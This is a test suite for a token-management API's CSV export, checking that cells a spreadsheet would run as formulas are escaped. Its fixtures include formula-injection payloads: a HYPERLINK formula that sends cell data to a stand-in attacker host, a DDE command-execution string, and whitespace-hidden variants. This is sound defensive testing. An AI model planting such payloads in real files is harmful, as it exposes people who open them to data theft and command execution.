// SPEC §6 CSV export: the filtered list as a download, with cells that a spreadsheet would run as a formula escaped.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from '../helpers/databases.js';
import { addToken } from '../helpers/factories.js';
import { tokenUrl } from '../helpers/api-checks.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '\n=1+1', '\u00a0@SUM(A1)', '\uff1d1+1'];

for (const dialect of DIALECTS) {
  describe(`CSV export (${dialect})`, () => {
    let t: TestApp;
    let base: string;
    beforeAll(async () => {
      t = await startTestApp(dialect);
      base = `/api/v1/tenants/${t.tenant}`;
      for (const [i, description] of FORMULAS.entries()) {
        await addToken(t.admin, t.tenant, { serial: `CSV-F${i}`, description, vendor: 'Token2', model: 'C302' });
      }
      await addToken(t.admin, t.tenant, { serial: 'CSV-PLAIN', description: 'plain, with "quotes" and a comma', vendor: 'Feitian' });
      const user = await t.admin.post(`${base}/users`, { username: 'mallory', displayName: '=cmd|"/c calc"!A0' });
      const held = await addToken(t.admin, t.tenant, { serial: 'CSV-HELD', type: 'totp' });
      await t.admin.post(tokenUrl(t, held.id, 'assign'), { userId: user.body.id });
      await t.admin.post(tokenUrl(t, held.id, 'compromise'), { reason: '=1+1 stolen' });
    });
    afterAll(async () => { await t?.close(); });

    const exportCsv = async (query = '') => {
      const reply = await t.admin.get(`${base}/hw-tokens.csv${query}`);
      expect(reply.status, reply.text).toBe(200);
      expect(String(reply.headers['content-type'])).toMatch(/^text\/csv/);
      expect(String(reply.headers['content-disposition'])).toMatch(/^attachment; filename="hw-tokens-acme-\d{4}-\d{2}-\d{2}\.csv"$/);
      return parse(reply.text, { columns: true, relax_column_count: false }) as Record<string, string>[];
    };

    it('exports every token with a header row and the documented columns', async () => {
      const rows = await exportCsv();
      expect(rows).toHaveLength(FORMULAS.length + 2);
      expect(Object.keys(rows[0]!)).toEqual(expect.arrayContaining(['id', 'serial', 'type', 'status', 'vendor', 'model', 'holder', 'description', 'compromiseReason']));
      const plain = rows.find((r) => r.serial === 'CSV-PLAIN')!;
      expect(plain).toMatchObject({ description: 'plain, with "quotes" and a comma', vendor: 'Feitian', status: 'active', holder: '' });
    });

    it("escapes cells that start with = + - @ (or a tab or CR hiding one) with a leading '", async () => {
      const rows = await exportCsv('?vendor=token2');
      expect(rows.map((r) => r.serial).sort()).toEqual(FORMULAS.map((_, i) => `CSV-F${i}`));
      for (const [i, formula] of FORMULAS.entries()) {
        expect(rows.find((r) => r.serial === `CSV-F${i}`)!.description).toBe(`'${formula}`);
      }
      // The JSON list keeps the text as entered.
      const json = await t.admin.get(`${base}/hw-tokens?serial=CSV-F0`);
      expect(json.body.items[0].description).toBe(FORMULAS[0]);
    });

    it('escapes other columns too: a holder name and a compromise reason', async () => {
      const [row] = await exportCsv('?serial=csv-held');
      expect(row).toMatchObject({ status: 'compromised', compromiseReason: "'=1+1 stolen", formerHolder: 'mallory' });
      expect(Object.values(row!).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    });

    it('applies the same filters as the list, and exports nothing for no match', async () => {
      expect((await exportCsv('?status=compromised')).map((r) => r.serial)).toEqual(['CSV-HELD']);
      expect((await exportCsv('?type=totp&status=active'))).toEqual([]);
      const reply = await t.admin.get(`${base}/hw-tokens.csv?serial=none`);
      expect(reply.text.trim().split('\n')).toHaveLength(1);
    });

    it('exports more than one page of rows in order', async () => {
      const { payload, contentType } = bulkCsv(620);
      const imported = await t.admin.request('POST', `${base}/hw-tokens/import`, payload, { 'content-type': contentType });
      expect(imported.status, imported.text).toBe(201);
      const rows = await exportCsv('?serial=bulk');
      expect(rows).toHaveLength(620);
      const serials = rows.map((r) => r.serial!);
      expect(serials).toEqual([...serials].sort((a, b) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1)));
      expect(new Set(serials).size).toBe(620);
    });
  });
}

/** A CSV seed file of `count` HOTP tokens, as a multipart upload. */
function bulkCsv(count: number): { payload: Buffer; contentType: string } {
  const lines = Array.from({ length: count }, (_, i) => `BULK-${String(i).padStart(4, '0')},GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ,hotp,6,0,SHA1,Bulk,B1`);
  const file = `serial,secret,type,digits,period|counter,algorithm,vendor,model\n${lines.join('\n')}\n`;
  const boundary = '----hwt-export-test';
  const payload = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="bulk.csv"\r\nContent-Type: text/csv\r\n\r\n${file}\r\n--${boundary}--\r\n`);
  return { payload, contentType: `multipart/form-data; boundary=${boundary}` };
}
